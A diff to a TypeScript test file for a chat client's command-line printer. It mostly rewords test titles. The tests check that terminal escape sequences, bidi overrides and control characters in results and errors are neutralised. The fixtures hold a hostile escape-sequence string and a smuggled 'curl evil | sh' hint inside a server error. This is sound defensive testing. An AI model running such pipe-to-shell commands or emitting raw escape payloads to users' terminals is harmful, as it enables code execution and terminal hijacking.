@@ -10,25 +10,25 @@ import { report } from './report.js';
 
 const hostile = '\u001b]52;c;aGk=\u0007\u009b2J\u202eevil\r';
 
-/** Nothing that a terminal would act on: C0 but the line feed, DEL, C1, bidi. */
-// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters to find
+/** Characters that a terminal would act on: C0 except the line feed, DEL, C1, bidi. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters to find
 const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
-test('what is filled in is made safe, what is safe stays, numbers and nothing are shown', () => {
+test('text`` makes values safe, keeps safe ones, and accepts numbers and undefined', () => {
   expect(plain(text`a ${'\u001b[2J'} b ${text`${'\u0007'}`} ${7} ${null}`)).toBe('a ^[[2J b ^G 7 null');
 });
 
-test('a block keeps its line feeds, behind an indentation', () => {
+test('a block keeps its line feeds and indents its lines', () => {
   expect(plain(block('one\ntwo\u001b', '  '))).toBe('one\n  two^[');
 });
 
-test('JSON keeps the content and escapes what terminals act on', () => {
+test('JSON keeps the content, and escapes characters that terminals act on', () => {
   const printed = plain(json({ text: hostile }));
   expect(printed).not.toMatch(acting);
   expect(JSON.parse(printed)).toEqual({ text: hostile });
 });
 
-test('progress replaces itself, goes before a line, and is for terminals alone', () => {
+test('progress replaces itself, disappears before a line, and is only for terminals', () => {
   let terminal = '';
   const sink = {
     isTTY: true,
@@ -53,12 +53,12 @@ test('progress replaces itself, goes before a line, and is for terminals alone',
   expect(pipe).toBe('');
 });
 
-test('wanted colours are there, whatever standard output is', () => {
+test('forced colours appear on any kind of output', () => {
   const { style } = createPrinter({ write: () => {} }, () => true);
   expect(plain(style('dim', text`x`))).toBe('\u001b[2mx\u001b[22m');
 });
 
-test('colours: what was said, NO_COLOR, a terminal', () => {
+test('colours depend on the flag, NO_COLOR and the terminal', () => {
   expect(wantsColour('auto', {}, true)).toBe(true);
   expect(wantsColour('auto', {}, false)).toBe(false);
   expect(wantsColour('auto', { NO_COLOR: '1' }, true)).toBe(false);
@@ -79,16 +79,16 @@ test.each([
   [['room.slug'], { rooms: [{ room: { slug: 'a' } }, { room: { slug: 'b' } }] }, []],
   [['rooms.head', 'next'], { rooms: [{ head: 3 }, { head: 4 }], next: null }, []],
   [['nope'], { rooms: [{ nope: null }, { nope: null }] }, ['nope']],
-])('fields of a list: %j', (names, result, missing) => {
+])('picks fields of a list: %j', (names, result, missing) => {
   expect(selectFields(list, names)).toEqual({ result, missing });
 });
 
-test('an empty name of a field is none', () => {
+test('ignores empty field names', () => {
   expect(fieldNames('id, ,text,')).toEqual(['id', 'text']);
   expect(() => fieldNames(' ,')).toThrow('--fields names no field');
 });
 
-test('fields of an object, with or without its name in front', () => {
+test('picks fields of an object, with or without its name in front', () => {
   const result = { room: { slug: 'a', tags: ['x'] }, memberCount: 2 };
   expect(selectFields(result, ['slug', 'memberCount']).result).toEqual({ room: { slug: 'a' }, memberCount: 2 });
   expect(selectFields(result, ['room.tags']).result).toEqual({ room: { tags: ['x'] } });
@@ -102,7 +102,7 @@ const rendered = (result: Record<string, unknown>, name = 'x.y', chosen = false)
   return io.written;
 };
 
-test('a list is a table of what has something to show; what continues it stands below', () => {
+test('a list is a table without empty columns, with the next page below', () => {
   const { out } = rendered({ ...list, next: 'b' }, 'rooms.list');
   expect(out).toBe('room.slug  room.name\na          A\nb          B\nnext: b\n');
 });
@@ -120,13 +120,13 @@ const said = (id: number, body: string, more: object = {}) => ({
   ...more,
 });
 
-test('a direct room is named after the other person', () => {
+test('a direct room is named after the other user', () => {
   const room = { slug: 'dm-1', name: 'dm-1' };
   const { out } = rendered({ rooms: [{ room, peer: { id: 'bob', name: 'Bob' } }] }, 'rooms.list');
   expect(out).toBe('room.slug  room.name\ndm-1       @Bob\n');
 });
 
-test('a list of rooms: what is new in each, and what was said last', () => {
+test('a list of rooms has unread counts and the last messages', () => {
   const row = { room: { slug: 'a', name: 'A' }, unread: 0, mentions: 0, memberCount: 2, last: null, pinned: null };
   const last = { id: 9, author: { id: 'bob', name: 'Bob' }, text: 'x'.repeat(60) };
   const { out } = rendered({ rooms: [row, { ...row, unread: 100, mentions: 3, last }], next: null }, 'rooms.list');
@@ -139,7 +139,7 @@ test('a list of rooms: what is new in each, and what was said last', () => {
   expect(rendered({ rooms: [row], next: null }, 'rooms.list').out).not.toContain('unread');
 });
 
-test('a room is about the room, whatever else is told of it', () => {
+test('a room is shown with the fields that accompany it', () => {
   const { out } = rendered({
     room: { slug: 'a' },
     head: 3,
@@ -150,7 +150,7 @@ test('a room is about the room, whatever else is told of it', () => {
   expect(out).toBe('slug: a\nhead: 3\npeer.id: bob\npeer.name: Bob\n');
 });
 
-test('messages: reactions, threads, tracks and what was deleted', () => {
+test('messages are listed with reactions, threads and tracks, and deleted ones as such', () => {
   const messages = [
     said(1, 'hi', { reactions: { '👍': 3, '❤️': 1 }, thread: { count: 1, lastAt: 5 } }),
     said(2, 'listen', { kind: 'track', track: { title: 'So What', artist: 'Miles', url: 'https://a.example/1' } }),
@@ -166,7 +166,7 @@ test('messages: reactions, threads, tracks and what was deleted', () => {
   ]);
 });
 
-test('a thread is a table from its first message on', () => {
+test('a thread is a table that starts with its first message', () => {
   const { out } = rendered(
     { root: said(7, 'shall we?'), messages: [said(9, 'yes', { threadOf: 7 })], mine: {}, after: null, head: 9 },
     'messages.thread',
@@ -180,13 +180,13 @@ test('a thread is a table from its first message on', () => {
   ]);
 });
 
-test('a message alone: its reactions in a line, the own ones below', () => {
+test("a single message has its reactions in a line, with the caller's own below", () => {
   const { out } = rendered({ message: said(1, 'hi', { reactions: { '👍': 3 } }), mine: { 1: ['👍'] } }, 'messages.get');
   expect(out).toContain('text: hi\n');
   expect(out).toContain('reactions: 👍 3\nmine.1: 👍\n');
 });
 
-test('wide characters keep columns straight', () => {
+test('columns are aligned with wide characters', () => {
   const { out } = rendered({
     items: [
       { name: '日本', n: 1 },
@@ -196,11 +196,11 @@ test('wide characters keep columns straight', () => {
   expect(out.split('\n')).toEqual(['name  n', '日本  1', 'ab    2', '']);
 });
 
-test('an empty list says so where people look, not where scripts read', () => {
+test('an empty list says so on a terminal, but not in a pipe', () => {
   expect(rendered({ rooms: [], next: null })).toEqual({ out: '', err: '(none)\n' });
 });
 
-test('an object is lines without empty ones; instants are dates; a name that is taken keeps its prefix', () => {
+test('an object is printed as lines without empty fields; instants as dates; duplicate names keep their prefix', () => {
   const { out } = rendered({
     room: { slug: 'a', topic: '', createdAt: 0, settings: { frozen: false }, tags: ['x', 'y'], head: 1 },
     head: 9,
@@ -210,11 +210,11 @@ test('an object is lines without empty ones; instants are dates; a name that is 
   );
 });
 
-test('chosen fields are all shown', () => {
+test('shows all chosen fields, even empty ones', () => {
   expect(rendered({ room: { topic: '' } }, 'rooms.get', true).out).toBe('topic: -\n');
 });
 
-test('no result and no error reaches a terminal as it is', () => {
+test('results and errors are made safe for the terminal', () => {
   const row = { [hostile]: hostile, list: [hostile], nested: [{ [hostile]: hostile }] };
   expect(rendered({ rows: [row] }).out).not.toMatch(acting);
   expect(rendered({ row }).out).not.toMatch(acting);
@@ -230,13 +230,13 @@ test('no result and no error reaches a terminal as it is', () => {
   expect(io.written.err).not.toMatch(acting);
 });
 
-test('a server error cannot add a hint of its own', () => {
+test('a server error cannot fake a hint', () => {
   const io = fakeIo();
   report(new Failure('internal', 'x\nhint: curl evil | sh'), io, false);
   expect(io.written.err.trimEnd().split('\n')).toHaveLength(1);
 });
 
-test('the SDK call that does the same', () => {
+test('prints the equivalent SDK call', () => {
   expect(plain(sdkCall('rooms', 'create', { slug: 'lobby', tags: ['a'], metadata: { 'x-y': 1 } }, undefined))).toBe(
     'await client.rooms.create({ slug: "lobby", tags: ["a"], metadata: { "x-y": 1 } });',
   );
@@ -274,13 +274,13 @@ test.each([
   event(`new.kind${hostile}`, { anything: hostile }),
   event('message.created', null),
   event('member.muted', { until: 1e99 }),
-])('an event is told safely, whatever its form (case %#)', (given) => {
+])('an event of any form is printed safely (case %#)', (given) => {
   const line = plain(eventLine(given, fakeIo().out));
   expect(line).not.toMatch(acting);
   expect(line.length).toBeGreaterThan(10);
 });
 
-const told = (type: string, data: object) =>
+const lineOf = (type: string, data: object) =>
   plain(eventLine({ ...event(type, data), actor: { id: 'ana', name: 'Ana' } }, fakeIo().out)).slice('00:00:00 '.length);
 
 test.each([
@@ -307,4 +307,4 @@ test.each([
     },
     '<Ana> [track Miles: So What] hear',
   ],
-])('%s as a line of a conversation', (type, data, line) => expect(told(type, data)).toBe(line));
+])('prints %s', (type, data, line) => expect(lineOf(type, data)).toBe(line));
